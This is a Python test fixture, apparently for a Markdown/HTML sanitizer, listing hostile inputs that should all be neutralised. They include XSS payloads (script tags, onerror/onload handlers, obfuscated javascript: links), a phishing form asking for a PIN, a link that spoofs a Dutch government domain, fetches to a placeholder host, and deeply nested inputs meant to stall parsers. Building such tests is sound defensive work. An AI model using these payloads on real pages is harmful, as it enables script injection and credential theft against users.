"""Letters of a sender that means harm. Each tries to make a browser do something; none of it may."""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "elders.example"
"""A host of nobody (RFC 2606). No browser may ask it anything."""

_URL: Final = f"https://{ELSEWHERE}/x"

HOSTILE: Final[dict[str, str]] = {
    "script": f"<script>document.title='GEKAAPT';fetch('{_URL}')</script>",
    "script in a list": f"- a\n- <script src={_URL}.js></script>",
    "unclosed script": "tekst <script>document.title='GEKAAPT'",
    "image error": "<img src=x onerror=\"document.title='GEKAAPT'\">",
    "image, Markdown": f"![een plaatje]({_URL}.png)",
    "image by reference": f"![een plaatje][p]\n\n[p]: {_URL}.png",
    "image in a link": f"[![a]({_URL}.png)]({_URL})",
    "svg": "<svg onload=\"document.title='GEKAAPT'\"><animate onbegin=\"document.title='GEKAAPT'\"/></svg>",
    "svg with an image": f"<svg><image href='{_URL}.png'/><use href='{_URL}#a'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src onerror=\"document.title='GEKAAPT'\">",
    "frame": f"<iframe src='{_URL}'></iframe><iframe srcdoc='<script>top.document.title=1</script>'></iframe>",
    "object": f"<object data='{_URL}'></object><embed src='{_URL}'>",
    "form": f"<form action='{_URL}' method=post><input name=pincode autofocus><button>Verder</button></form>",
    "form that reaches out": "</div></main><form action='/uitloggen' method=post><button>Klik</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_URL}'>",
    "base": f"<base href='{_URL}/'>",
    "style": f"<style>@import '{_URL}.css'; body {{ display: none }}</style>",
    "style attribute": f'<p style="background:url({_URL}.png);position:fixed;inset:0">U bent uitgelogd</p>',
    "style sheet": f"<link rel=stylesheet href='{_URL}.css'><link rel=prefetch href='{_URL}'>",
    "audio and video": f"<video src='{_URL}' autoplay></video><audio src='{_URL}' autoplay></audio>",
    "details": "<details open ontoggle=\"document.title='GEKAAPT'\">x</details>",
    "autofocus": "<input autofocus onfocus=\"document.title='GEKAAPT'\">",
    "javascript link": "[Betalen](javascript:document.title='GEKAAPT')",
    "javascript link, spelled": "[Betalen](JaVaScRiPt:alert%281%29) [b](java&#115;cript:alert%281%29)",
    "javascript link, tabbed": "[Betalen](<java\tscript:alert(1)>) [b](<\x0cjavascript:alert(1)>)",
    "javascript link, escaped": "[Betalen](javascript&colon;alert%281%29) [b](&#1;javascript:alert%281%29)",
    "javascript autolink": "<javascript:document.title=1>",
    "vbscript and file": "[a](vbscript:msgbox) [b](file:///etc/passwd) [c](blob:https://x/y)",
    "data link": "[Betalen](data:text/html,<script>document.title='GEKAAPT'</script>)",
    "link without a scheme": f"[a](//{ELSEWHERE}) [b](/uitloggen) [c](?x) [d](#a) [e](http://{ELSEWHERE})",
    "link by reference": f"[Betalen][l]\n\n[l]: javascript:alert(1)\n[Betalen2]: http://{ELSEWHERE}",
    "link with a user": f"[Betalen](https://www.cjib.nl@{ELSEWHERE}/) [b](https://www.cjib.nl%40{ELSEWHERE})",
    "link with a backslash": f"[Betalen](https://www.cjib.nl\\@{ELSEWHERE}/) [b](https:\\\\{ELSEWHERE})",
    "attribute break": f'[a]({_URL}" onmouseover="document.title=1) [b](<{_URL}"><script>document.title=1</script>>)',
    "title break": f"[a]({_URL} 'x\" onmouseover=\"document.title=1')",
    "table": "|a|b|\n|-|:-:|\n|<script>document.title='GEKAAPT'</script>|<img src=x onerror=alert(1)>|",
    "code": "```html onload=alert(1)\n</code></pre><script>document.title='GEKAAPT'</script>\n```",
    "code, inline": "`</code><script>document.title='GEKAAPT'</script>`",
    "heading": "# <script>document.title='GEKAAPT'</script>\n\nA<svg/onload=alert(1)>\n===",
    "template": "{{ 7 * 7 }} {% include 'basis.html' %} ${7*7} {# weg #}",
    "entities": "&lt;script&gt;document.title='GEKAAPT'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "comment": "<!-- <p>weg</p> --><![CDATA[ <script>document.title=1</script> ]]><?php echo 1 ?>",
    "closes the page": "</article></main></body></html><h1>Log opnieuw in</h1><script>document.title=1</script>",
    "unclosed tags": "<b><i><u><table><tr><td><a href='x'><div><p>",
    "wrong way round": "betaal \u202elbijc.www\u202c nu \u2066a\u2069 \u202ethgir ot tfel",
    "odd white space": "a\u2028b\u2029c\u0085d\ufeffe\u200bf",
    "lone surrogates of a kind": "\ufdd0 \ufffe \U000fffff",
    "frontmatter": "---\nlayout: x\n---\n<script>document.title=1</script>",
}


def deep(size: int) -> dict[str, str]:
    """What costs a careless parser minutes; each of about `size` characters."""

    def filled(piece: str, end: str = "") -> str:
        return piece * ((size - len(end)) // len(piece)) + end

    return {
        "quotes": filled("> ") + "a",
        "quotes, a line each": "\n".join("> " * (n % 300) + "a" for n in range(size))[:size],
        "lists": "\n".join("  " * (n % 300) + "- a" for n in range(size))[:size],
        "lists on a line": filled("- ") + "a",
        "emphasis": filled("*a "),
        "emphasis, closing": filled("*a_ "),
        "stars": filled("*"),
        "stars and words": filled("a**b"),
        "open brackets": filled("["),
        "closed brackets": filled("[a]"),
        "open links": filled("[a]("),
        "open links in angles": filled("[a](<"),
        "nested links": "[" * (size // 2) + "](https://x.example)" * 100,
        "images": filled("!["),
        "table cells": "|" + filled("a|")[: size // 2] + "\n|" + filled("-|")[: size // 2] + "\n",
        "table rows": "|a|b|\n|-|-|\n" + filled("|a|b|\n"),
        "wide and long table": "|" + "a|" * (size // 500) + "\n|" + "-|" * (size // 500) + "\n" + filled("|a\n"),
        "backslashes": filled("\\"),
        "backticks": filled("`a"),
        "angles": filled("<"),
        "tags": filled("<b>"),
        "comments": filled("<!--"),
        "entities": filled("&#x41"),
        "setext": filled("a\n=\n"),
        "spaces": filled(" ", "a"),
        "lines": filled("\n", "a"),
        "links": filled("[a](https://x.example/b) "),
    }
